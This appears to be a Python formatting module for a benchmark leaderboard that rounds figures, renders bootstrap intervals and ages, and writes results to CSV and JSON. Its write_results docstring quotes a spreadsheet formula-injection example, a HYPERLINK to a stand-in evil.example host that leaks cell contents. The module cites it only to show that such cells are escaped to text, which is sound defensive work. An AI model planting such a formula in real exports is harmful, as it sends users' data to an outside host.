"""How the board writes numbers and tables for people: rounding, intervals, ages, DataFrames, CSV.

Shared by :mod:`mmjudge.leaderboard.views` and the tracks (:mod:`mmjudge.leaderboard.tracks`), so a
figure reads the same on every tab, on a submission's page and in a download.

>>> rounded(3.14159), rounded(float("nan")), interval_text({"ci_low": 2.9512, "ci_high": 3.27})
(3.142, None, '[2.951, 3.270]')
>>> separable_text({"separable": False}), failures_text({"failed": 7}, 100), age_text(4000)
('no (within noise)', '7 (7.0%)', '67 min')
"""

from __future__ import annotations

import csv
import json
import math
import os
from collections.abc import Sequence
from typing import Any

from mmjudge.report import CSV_LINE_END, csv_cell

INTERVAL_NOTE = (
    "**interval**: 95% bootstrap over the benchmark's items; **vs above**: *yes* when a paired bootstrap "
    "on the same items separates this row from the one above (the interval of their difference excludes "
    "0), *no* when chance could swap them."
)


def rounded(value: Any, digits: int = 3) -> Any:
    """A float rounded for display (NaN and infinities as None); anything else unchanged."""
    if isinstance(value, float):
        return None if not math.isfinite(value) else round(value, digits)
    return value


def frame(rows: Sequence[dict], columns: Sequence[str] | None = None):
    """A ``pandas.DataFrame`` of ``rows`` with rounded numbers (only ``columns``, in that order, when given)."""
    import pandas as pd

    table = pd.DataFrame([{k: rounded(v) for k, v in r.items()} for r in rows])
    if columns is not None:
        table = table.reindex(columns=list(columns))
    return table


def interval_text(row: dict, digits: int = 3) -> str:
    low, high = row.get("ci_low"), row.get("ci_high")
    return "" if low is None or high is None else f"[{low:.{digits}f}, {high:.{digits}f}]"


def separable_text(row: dict) -> str:
    return {True: "yes", False: "no (within noise)", None: ""}[row.get("separable")]


def failures_text(row: dict, n: int | None) -> str:
    failed = row.get("failed")
    if failed is None:
        return ""
    return f"{failed} ({100 * failed / n:.1f}%)" if n and failed else str(failed)


def age_text(seconds: float) -> str:
    if seconds < 120:
        return f"{seconds:.0f} s"
    if seconds < 7200:
        return f"{seconds / 60:.0f} min"
    return f"{seconds / 3600:.1f} h"


def write_results(records: list[dict], folder: str, stem: str) -> tuple[str, str]:
    """``records`` as ``<stem>.csv`` and ``<stem>.json`` in ``folder`` (the downloads); returns both paths.

    Every CSV cell passes :func:`mmjudge.report.spreadsheet_safe`: a name such as
    ``=HYPERLINK("http://evil.example/?leak="&A2,"x")`` is written as text a spreadsheet shows, never a
    formula it runs. The JSON keeps every value as it is.

    >>> import tempfile
    >>> csv_path, _ = write_results([{"name": "=1+1", "overall": -0.5}], tempfile.mkdtemp(), "t")
    >>> open(csv_path, encoding="utf-8").read().splitlines()
    ['name,overall', "'=1+1,-0.5"]
    >>> csv_path, _ = write_results([{"name": "a\\rb", "overall": 1}], tempfile.mkdtemp(), "t")
    >>> list(csv.reader(open(csv_path, encoding="utf-8", newline="")))  # a CR stays inside its cell
    [['name', 'overall'], ['a\\rb', '1']]
    """
    os.makedirs(folder, exist_ok=True)
    csv_path, json_path = os.path.join(folder, f"{stem}.csv"), os.path.join(folder, f"{stem}.json")
    columns = list(dict.fromkeys(k for r in records for k in r))
    with open(csv_path, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, lineterminator=CSV_LINE_END)
        writer.writerow([csv_cell(c) for c in columns])
        for r in records:
            writer.writerow([csv_cell(r.get(c)) for c in columns])
    with open(json_path, "w", encoding="utf-8") as f:
        json.dump(records, f, ensure_ascii=False, indent=1, allow_nan=False)
    return csv_path, json_path
